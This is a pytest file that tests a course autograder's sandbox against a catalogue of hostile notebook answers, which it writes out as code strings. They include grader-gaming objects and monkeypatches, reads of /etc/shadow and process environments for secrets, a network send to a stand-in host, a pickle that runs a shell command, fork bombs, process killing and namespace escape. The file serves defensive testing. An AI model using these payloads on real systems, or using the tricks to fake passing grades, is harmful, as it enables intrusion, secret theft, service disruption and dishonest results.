"""Attacks on the grader: each earns what the honest part of the submission earns, and nothing else.

The honest part is the exercise `double`, worth 2 points. The attack stands in another answer cell.
"""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from labkit.grading import isolation
from labkit.grading.grader import Grader, Order
from labkit.grading.isolation import Limits, strongest

from .light_lab import RIGHT, SETUP, lab
from .notebooks import ROOT

LEVEL, WHY = strongest()
LIMITS = Limits(cpu_s=5, wall_s=3, total_s=30, memory_mb=300, disk_mb=64, processes=30)
SECRET = "the-graders-own-password"

pytestmark = pytest.mark.skipif(LEVEL != "namespaces", reason=f"namespaces cannot be had here: {WHY}")


@pytest.fixture(scope="module")
def grader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Grader]:
    os.environ["LABKIT_TEST_PASSWORD"] = SECRET
    with Grader(Order("light_lab", SETUP, 7, LEVEL, LIMITS, checks=f"{__package__}.light_lab")) as made:
        yield made
    del os.environ["LABKIT_TEST_PASSWORD"]


TRICKS = {
    "an object that equals everything": """
        class Equal:
            __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda *a: True
            __hash__ = None
            __array__ = lambda self, *a, **k: np.zeros(1)
        def total(values): return Equal()""",
    "a float that equals everything": """
        class Number(float):
            __eq__ = lambda *a: True
            __hash__ = None
        def total(values): return Number(1)""",
    "an array that equals everything": """
        class Array(np.ndarray):
            __eq__ = lambda *a: True
        def total(values): return np.zeros(()).view(Array)""",
    "monkeypatched comparison": """
        np.allclose = np.array_equal = lambda *a, **k: True
        def total(values): return 0""",
    "monkeypatched engine": """
        import labkit.exercise, labkit.host, labkit.values
        labkit.exercise.Exercise.judge = lambda *a, **k: None
        labkit.host.Host.run = lambda self, work: labkit.values.encode(
            {"value": True, "error": None, "printed": "", "seconds": 0.0})
        def total(values): return 0""",
    "monkeypatched message format": """
        import msgpack, json
        msgpack.packb = lambda *a, **k: b"\\xc3"
        json.dumps = lambda *a, **k: "true"
        def total(values): return 0""",
    "imports the checks": """
        import checks.lab01_save_once
        def total(values): return checks.lab01_save_once.lab.exercises""",
    "imports the lab's own checks": """
        def total(values):
            import importlib
            importlib.invalidate_caches()
            module = importlib.import_module("<PACKAGE>.light_lab")
            return module.lab""",
    "reads the checks": """
        def total(values): return open("<ROOT>/src/checks/lab01_save_once.py").read()""",
    "reads the solutions": """
        def total(values): return open("<ROOT>/solutions/lab01_save_once/lab01_save_once.ipynb").read()""",
    "lists the course": """
        import os
        def total(values): return sum(len(files) for _, _, files in os.walk("<ROOT>/tests"))""",
    "reads the gradebook and other submissions": """
        from pathlib import Path
        def total(values): return Path("<PRIVATE>").read_text()""",
    "reads the passwords of the machine": """
        def total(values): return open("/etc/passwd").read() + open("/etc/shadow").read()""",
    "reads the grader's environment": """
        import os
        from pathlib import Path
        def total(values):
            seen = str(dict(os.environ)) + "".join(
                Path(f"/proc/{p}/environ").read_text() for p in os.listdir("/proc") if p.isdigit())
            return 1 / 0 if "<SECRET>" not in seen else open("/tmp/found", "w")""",
    "writes into the course": """
        def total(values):
            open("<ROOT>/src/labkit/values.py", "a").write("# was here")""",
    "calls somebody on the network": """
        import socket
        def total(values):
            socket.create_connection(("192.0.2.1", 80), timeout=2).sendall(b"answers?")""",
    "asks the machine's own services": """
        import socket
        def total(values):
            socket.create_connection(("127.0.0.1", <PORT>), timeout=2)
            return int(values.sum())""",
    "fork bomb": """
        import os
        def total(values):
            while True: os.fork()""",
    "threads without end": """
        import threading, time
        def total(values):
            while True: threading.Thread(target=time.sleep, args=(9,)).start()""",
    "memory": """
        def total(values):
            kept = []
            while True: kept.append(np.ones(10**6))""",
    "memory of many processes": """
        import os, time
        def total(values):
            for _ in range(20):
                if os.fork() == 0:
                    kept = np.ones(3 * 10**7); time.sleep(60)
            time.sleep(60)""",
    "disk": """
        def total(values):
            with open("/tmp/full", "wb") as file:
                while True: file.write(b"x" * 2**20)""",
    "many files": """
        def total(values):
            for number in range(10**6): open(f"/tmp/{number}", "w").close()""",
    "output without end": """
        def total(values):
            while True: print("x" * 10**6)""",
    "loop without end": """
        def total(values):
            while True: pass""",
    "loop without end while the cell runs": """
        while True: pass""",
    "sleeps": """
        import time
        def total(values): time.sleep(10**6)""",
    "ends its process": """
        import os
        def total(values): os._exit(0)""",
    "ends its process while the cell runs": """
        import os; os._exit(0)""",
    "crashes the interpreter": """
        import ctypes
        def total(values): ctypes.string_at(0)""",
    "leaves processes behind": """
        import os, time
        def total(values):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/usr/bin/sleep", ["sleep-<SECRET>", "300"])
                os._exit(0)
            return 0""",
    "forges messages": """
        import os, socket, struct
        import msgpack
        def total(values):
            items = [["value", 0], ["error", None], ["printed", ""], ["seconds", 0.0]]
            reply = msgpack.packb({"$": "dict", "items": items})
            for number in range(3, 64):
                try:
                    os.write(number, struct.pack("<I", len(reply)) + reply)
                except OSError: pass
            return 0""",
    "forges a message without end": """
        import os
        def total(values):
            for number in range(3, 64):
                try: os.write(number, b"\\xff" * 65536)
                except OSError: pass
            while True: pass""",
    "answers with too much": """
        def total(values): return b"x" * (200 * 2**20)""",
    "answers with something deep": """
        def total(values):
            deep = []
            for _ in range(10**5): deep = [deep]
            return deep""",
    "answers with a pickle that runs": """
        import os
        class Run:
            def __reduce__(self): return os.system, ("touch /tmp/labkit-pickle-ran",)
        def total(values): return Run()""",
    "raises what cannot be shown": """
        class Loud(Exception):
            def __str__(self): raise SystemExit
        def total(values): raise Loud""",
    "signals the grader": """
        import os, signal
        def total(values):
            for number in [os.getppid(), *range(2, 300)]:
                try: os.kill(number, signal.SIGKILL)
                except OSError: pass
            os.kill(-1, signal.SIGKILL)
            return 0""",
    "mounts and leaves its namespaces": """
        import ctypes, os
        def total(values):
            libc = ctypes.CDLL(None)
            broken = [libc.umount2(b"/tmp", 2), libc.mount(b"none", b"/usr", b"tmpfs", 0, None),
                      libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0), libc.chroot(b"/proc/1/root")]
            os.setuid(0)""",
    "changes its own side": """
        import gc
        from labkit.host import Host
        for thing in gc.get_objects():
            if isinstance(thing, Host): thing._namespace = {}
        def total(values): return 0""",
    "hides behind a stub": """
        def total(values): raise NotImplementedError""",
}


def source(name: str, private: Path, port: int) -> str:
    """The attack as an answer cell, with the places it is after."""
    text = "\n".join(line[8:] for line in TRICKS[name].splitlines()[1:])
    places = {"ROOT": ROOT, "PRIVATE": private, "SECRET": SECRET, "PORT": port, "PACKAGE": __package__}
    for mark, place in places.items():
        text = text.replace(f"<{mark}>", str(place))
    return text


@pytest.mark.parametrize("name", TRICKS)
def test_an_attack_earns_nothing(name: str, grader: Grader, tmp_path: Path) -> None:
    import socket

    private = tmp_path / "gradebook.csv"
    private.write_text("student,score\n")
    before = (ROOT / "src/labkit/values.py").read_bytes()
    with socket.socket() as service:
        service.bind(("127.0.0.1", 0))
        service.listen()
        text = source(name, private, service.getsockname()[1])
        compile(text, name, "exec")
        reports = {report.exercise: report for report in grader.grade({**RIGHT, "total": text})}

    assert reports["double"].outcome == "correct" and reports["double"].score == 2, str(vars(reports["double"]))
    assert reports["write"].outcome == "correct", str(vars(reports["write"]))
    assert reports["total"].outcome != "correct" and reports["total"].score == 0, str(vars(reports["total"]))
    assert SECRET not in str(reports) and "student,score" not in str(reports)
    assert (ROOT / "src/labkit/values.py").read_bytes() == before
    assert not Path("/tmp/labkit-pickle-ran").exists()
    until = time.monotonic() + 5
    while left := [p for p in psutil.process_iter(["cmdline"]) if f"sleep-{SECRET}" in (p.info["cmdline"] or [])]:
        assert time.monotonic() < until, left


def test_a_fresh_process_that_ends_without_an_answer_is_told_at_once(grader: Grader) -> None:
    """The notebook's own process is the first of its jail and gives the right sum; the fresh one ends itself."""
    ends = """
import os
def total(values):
    if os.getpid() != 1:
        os._exit(0)
    return sum(values.tolist())
"""
    reports = {report.exercise: report for report in grader.grade({**RIGHT, "total": ends})}
    first, fresh = reports["total"].cases
    assert first.state == "passed"
    assert "fresh process ended before it had an answer" in fresh.got
    assert reports["write"].outcome == "correct"


def test_a_symbolic_link_leads_nowhere(grader: Grader) -> None:
    link = "import os\ndef write(text, path):\n    os.symlink('/etc/hostname', path)"
    report = {r.exercise: r for r in grader.grade({**RIGHT, "write": link})}["write"]
    assert report.score == 0 and report.cases[0].state == "failed"


def test_an_honest_answer_still_gets_everything(grader: Grader) -> None:
    assert [report.outcome for report in grader.grade(RIGHT)] == ["correct"] * len(lab.exercises)


def test_grading_again_gives_the_same(grader: Grader) -> None:
    wrong = {**RIGHT, "total": "def total(values):\n    return values[0]"}
    assert grader.grade(wrong) == grader.grade(wrong)


def test_an_environment_may_lie_below_the_folder_that_becomes_private(tmp_path: Path) -> None:
    """A clone in /tmp: what is readable stays so, although /tmp itself is new and empty."""
    (tmp_path / "kept").mkdir()
    (tmp_path / "kept" / "note.txt").write_text("still here")
    (tmp_path / "hidden.txt").write_text("not here")
    reader, writer = os.pipe()
    if (child := os.fork()) == 0:
        isolation.separate()
        if (inner := os.fork()) == 0:
            isolation.confine(isolation.Jail((str(tmp_path / "kept"),), LIMITS), os.getppid() + 1)
            found = (tmp_path / "kept" / "note.txt").read_text(), (tmp_path / "hidden.txt").exists()
            Path("/tmp/own.txt").write_text("writable")
            os.write(writer, repr(found).encode())
            os._exit(0)
        os.waitpid(inner, 0)
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as pipe:
        assert pipe.read() == "('still here', False)"
    os.waitpid(child, 0)
